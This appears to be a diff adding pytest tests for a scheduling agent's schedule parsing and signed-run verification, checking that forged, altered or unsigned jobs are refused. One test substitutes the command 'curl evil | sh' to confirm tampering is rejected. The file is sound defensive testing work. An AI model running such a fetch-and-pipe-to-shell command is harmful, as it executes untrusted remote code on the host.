@@ -1,0 +1,107 @@
+"""A schedule's definition, its record, and the check that a job is exactly its signed run."""
+
+from __future__ import annotations
+
+import dataclasses
+from typing import Any
+
+import msgspec
+import pytest
+
+from schedagent.core.schedrun import verify_run
+from schedagent.core.schedule import Schedule, parse_definition
+from schedagent.core.signing import SignatureRejected, SigningKey
+from schedagent.errors import ScheduleError
+
+KEY, OTHER = SigningKey.generate(), SigningKey.generate()
+TRUSTED = {KEY.key_id: KEY.public}
+START = 1_699_999_980  # in the past (signatures from the future are refused), a minute
+
+
+def make(key: SigningKey = KEY, **fields: Any) -> Schedule:
+    raw = {"name": "backup", "every": 60, "job": {"cmd": "make backup", "cpus": 2}, **fields}
+    definition = parse_definition(raw)
+    return Schedule(definition, key.sign_schedule(definition.to_dict(), now=START))
+
+
+@pytest.mark.parametrize(
+    ("raw", "why"),
+    [
+        ({"every": 60, "job": {"cmd": "x"}}, "name"),
+        ({"name": "a b", "every": 60, "job": {"cmd": "x"}}, "name"),
+        ({"name": "a", "job": {"cmd": "x"}}, "either cron or every"),
+        ({"name": "a", "cron": "@daily", "every": 5, "job": {"cmd": "x"}}, "either cron or every"),
+        ({"name": "a", "every": 0, "job": {"cmd": "x"}}, "every must be whole seconds"),
+        ({"name": "a", "every": 1.5, "job": {"cmd": "x"}}, "every must be whole seconds"),
+        ({"name": "a", "every": 5, "tz": "Europe/Berlin", "job": {"cmd": "x"}}, "tz applies"),
+        ({"name": "a", "cron": "@daily", "tz": "Nowhere/Else", "job": {"cmd": "x"}}, "zone"),
+        ({"name": "a", "every": 5, "job": {"cmd": ""}}, "job: cmd"),
+        ({"name": "a", "every": 5, "job": {"cmd": "x", "idempotency_key": "k"}}, "no field"),
+        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "concurrency": "x"}, "concurrency"),
+        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "catch_up": "some"}, "catch_up"),
+        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "catch_up_window": 0}, "window"),
+        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "splay": -1}, "splay"),
+        ({"name": "a", "every": 5, "job": {"cmd": "x"}, "after": "b"}, "unknown"),
+    ],
+)
+def test_a_bad_definition_says_what_is_wrong(raw: dict[str, Any], why: str) -> None:
+    with pytest.raises(ScheduleError, match=why):
+        parse_definition(raw)
+
+
+def test_the_record_round_trips_and_its_runs_are_its_job() -> None:
+    schedule = make(cron="*/5 * * * *", every=None, tz="Europe/Berlin")
+    assert Schedule.from_json(schedule.to_json()) == schedule
+    slot = schedule.definition.slots().next_after(START)
+    assert slot % 300 == 0 and START < slot <= START + 300
+    spec = schedule.slot_spec(slot)
+    assert spec.cmd == "make backup" and spec.cpus == 2.0 and spec.signature is None
+    assert verify_run(schedule.slot_job_id(slot), spec, TRUSTED).key_id == KEY.key_id
+
+
+def check(s: Schedule, slot: int | None, job_id: str | None = None, **change: Any) -> None:
+    spec = msgspec.structs.replace(s.slot_spec(slot), **change)
+    verify_run(job_id or s.slot_job_id(slot or 0), spec, TRUSTED)
+
+
+def test_forged_altered_and_unsigned_runs_are_refused() -> None:
+    good = make()
+    check(good, START + 60)
+    with pytest.raises(SignatureRejected, match="not the signed schedule's job"):
+        check(good, START + 60, cmd="curl evil | sh")
+    with pytest.raises(SignatureRejected, match="not the signed schedule's job"):
+        check(good, START + 60, user="root")
+    with pytest.raises(SignatureRejected, match="unknown key"):
+        check(make(OTHER), START + 60)
+    # The definition altered after signing (a slot every second instead of every minute).
+    forged = dataclasses.replace(good, definition=dataclasses.replace(good.definition, every=1))
+    with pytest.raises(SignatureRejected, match="does not match the schedule"):
+        check(forged, START + 61)
+    with pytest.raises(SignatureRejected, match="not a slot"):
+        check(good, START + 61)
+    with pytest.raises(SignatureRejected, match="not a slot"):
+        check(good, START - 60)  # before the schedule was signed
+    with pytest.raises(SignatureRejected, match="is not the run of slot"):
+        check(good, START + 60, job_id=good.slot_job_id(START + 120))
+    with pytest.raises(SignatureRejected, match="not its own"):
+        check(good, START + 60, signature=KEY.sign({"cmd": "make backup"}).to_dict())
+    origin = dict(good.slot_spec(START + 60).schedule or {})
+    origin["signature"] = None
+    with pytest.raises(SignatureRejected, match="malformed"):
+        check(good, START + 60, schedule=origin)
+
+
+def test_a_run_outside_the_schedule_needs_a_signed_request_for_this_version() -> None:
+    schedule = make()
+    with pytest.raises(SignatureRejected, match="signed run request"):
+        check(schedule, None, job_id="0" * 20)
+    run = KEY.sign_schedule_action("run", "backup", schedule.signature.value)
+    checked = verify_run("0" * 20, schedule.slot_spec(None, run), TRUSTED)
+    assert checked.nonce == run.nonce
+    older = make()  # the same definition signed again: another version
+    stale = KEY.sign_schedule_action("run", "backup", older.signature.value)
+    with pytest.raises(SignatureRejected, match="does not match this schedule run"):
+        verify_run("0" * 20, schedule.slot_spec(None, stale), TRUSTED)
+    pause = KEY.sign_schedule_action("pause", "backup", schedule.signature.value)
+    with pytest.raises(SignatureRejected, match="does not match"):
+        verify_run("0" * 20, schedule.slot_spec(None, pause), TRUSTED)
